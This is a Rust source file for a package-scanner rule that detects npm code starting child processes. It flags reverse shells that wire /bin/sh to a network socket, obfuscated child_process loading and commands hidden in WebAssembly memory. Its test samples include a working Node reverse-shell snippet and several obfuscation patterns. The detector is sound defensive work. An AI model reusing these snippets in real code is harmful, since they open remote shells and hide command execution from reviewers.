//! Rule `child-process`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files};

crate::declare_rule! {
    /// The code starts other programs (child_process exec/spawn/fork, execa, cross-spawn). Normal
    /// in build tools and CLIs (`low` there), worth a look in library code, `high` at install
    /// time, and `critical` when a shell is wired to a network socket (a reverse shell) or the
    /// command is read out of WebAssembly memory (a payload hidden in a wasm data segment).
    id: "child-process",
    category: Exec,
    severity: Medium,
    capability: Some(crate::model::Capability::ChildProcess),
    title: "starts child processes",
    incident: "ethers-provider2 (2025) piped /bin/sh to a net.Socket; coa/ua-parser-js (2021) ran droppers via child_process",
    case_file: "lib/index.js",
    flag: ["const cp = require('child_' + 'process'); cp.exec(cmd)",
           "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c)).join(''); const cp = require(a); cp[['sp', 'awn'].join('')](dst, [])",
           "const n = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map(function (c) { return String.fromCharCode(c) }).join(''); require(n).exec(x)",
           "import { spawn } from 'node:child_process'; spawn('sh', ['-c', x])",
           "const cp = process.getBuiltinModule(['child', 'process'].join('_')); cp.execFile('/bin/sh', ['-c', x])",
           "const cp = process.getBuiltinModule?.('node:child_process'); cp.exec(x)",
           "const cp = require('child_process'); let mem; const imports = { env: { run(p, n) { cp.exec(Buffer.from(mem.buffer, p, n).toString()) } } }; WebAssembly.instantiate(bytes, imports)",
           "const net = require('net'); const {spawn} = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });"],
    pass: ["const cp = { exec() {} }; cp.exec('x')",
           "const fs = process.getBuiltinModule('fs'); fs.readFileSync(p)",
           "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c + 1)).join(''); require(a).exec(x)", "// require('child_process').exec(x)", "const s = 'child_process.exec is documented here'"],
}

const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "sh",
    "bash",
    "cmd.exe",
    "cmd",
    "powershell",
    "powershell.exe",
    "pwsh",
    "/bin/zsh",
    "zsh",
];

/// How far apart (in bytes) the socket and the shell may be to count as wired together.
const WIRED_WINDOW: usize = 600;

/// A shell wired to a network socket: a socket is opened and a shell started within a few lines
/// of each other, with the shell's streams piped to it (`.pipe(`, `stdin`/`stdout`, `stdio`).
/// A bundle that opens sockets in one place and runs `net use` in another is not a reverse
/// shell (vite 5.2.10 does both, 40,000 bytes apart). A shell named only in decoded text (no
/// offset in the file) keeps the file-wide test.
fn reverse_shell(f: &crate::package::FileCtx, js: &crate::js::JsFacts) -> bool {
    let sockets: Vec<usize> = js
        .calls
        .iter()
        .filter(|c| {
            matches!(
                c.path.as_str(),
                "net.Socket" | "net.connect" | "net.createConnection" | "tls.connect"
            )
        })
        .map(|c| c.off as usize)
        .collect();
    if sockets.is_empty() {
        return false;
    }
    let mut shells: Vec<usize> = js
        .calls
        .iter()
        .filter(|c| super::is_spawn(&c.path) && c.arg_lit(0).is_some_and(|a| SHELLS.contains(&a)))
        .map(|c| c.off as usize)
        .collect();
    shells.extend(f.text.match_indices("/bin/sh").map(|(i, _)| i));
    if shells.is_empty() {
        // only a decoded payload names the shell: no offsets to compare
        return crate::rules::all_text(f).contains("/bin/sh");
    }
    sockets.iter().any(|&s| {
        shells.iter().any(|&h| {
            if s.abs_diff(h) > WIRED_WINDOW {
                return false;
            }
            let (a, b) = (s.min(h), s.max(h));
            let end = (b + WIRED_WINDOW / 2).min(f.text.len());
            f.text
                .get(a..end)
                .is_some_and(|w| w.contains(".pipe(") || w.contains("stdin") || w.contains("stdio"))
        })
    })
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in code_files(pkg) {
        let Some(js) = &f.js else { continue };
        let Some(call) = js.calls.iter().find(|c| super::is_spawn(&c.path)) else {
            continue;
        };
        let socket = reverse_shell(f, js);
        // A command read out of WebAssembly memory: the program to run is hidden in a wasm data
        // segment and handed to a host function.
        let wasm = f.text.contains("WebAssembly.") && {
            let reads =
                crate::regex!(r"\.buffer\s*,\s*\w+\s*,\s*\w+\)|new Uint8Array\(\s*[\w.]*\.buffer");
            // The memory read feeds the command: both within a few lines.
            reads.find_iter(&f.text).any(|m| {
                js.calls.iter().any(|c| {
                    super::is_spawn(&c.path)
                        && c.args.first().is_some_and(|a| a.lit.is_none())
                        && (c.off as usize).abs_diff(m.start()) < 300
                })
            })
        };
        let (sev, msg) = if wasm {
            (
                Severity::Critical,
                "runs a command read out of WebAssembly memory".to_string(),
            )
        } else if socket {
            (
                Severity::Critical,
                "starts a shell wired to a network socket (reverse shell)".to_string(),
            )
        } else if pkg.is_install_file(f) {
            (
                Severity::High,
                format!("code run at install time starts processes ({})", call.path),
            )
        } else if pkg.is_tool_file(f) {
            (
                Severity::Low,
                format!("command-line code starts processes ({})", call.path),
            )
        } else {
            (
                Severity::Medium,
                format!("starts processes ({})", call.path),
            )
        };
        out.hit_sev(sev, pkg, f, call.off, msg);
    }
}

#[cfg(test)]
mod tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// vite 5.2.10's dev server bundle opens sockets in one place and runs `net use` (and names
    /// /bin/sh) far away in another: it starts processes, but no shell is wired to a socket.
    #[test]
    fn socket_and_shell_far_apart_is_not_a_reverse_shell() {
        let filler = "/* unrelated bundle code */\n".repeat(40);
        let case = format!(
            "const net = require('net'); const {{ exec }} = require('child_process'); const probe = net.createConnection(port, host); probe.on('error', done);\n{filler}exec('net use', (error, stdout) => {{ if (error) return; parse(stdout); }}); const shell = process.env.SHELL || '/bin/sh';"
        );
        let hits = run(&super::RULE, "lib/index.js", &case);
        assert!(!hits.is_empty(), "the exec call is still reported");
        assert!(
            hits.iter().all(|h| h.severity < Severity::Critical),
            "not a reverse shell: {hits:?}"
        );
    }
}
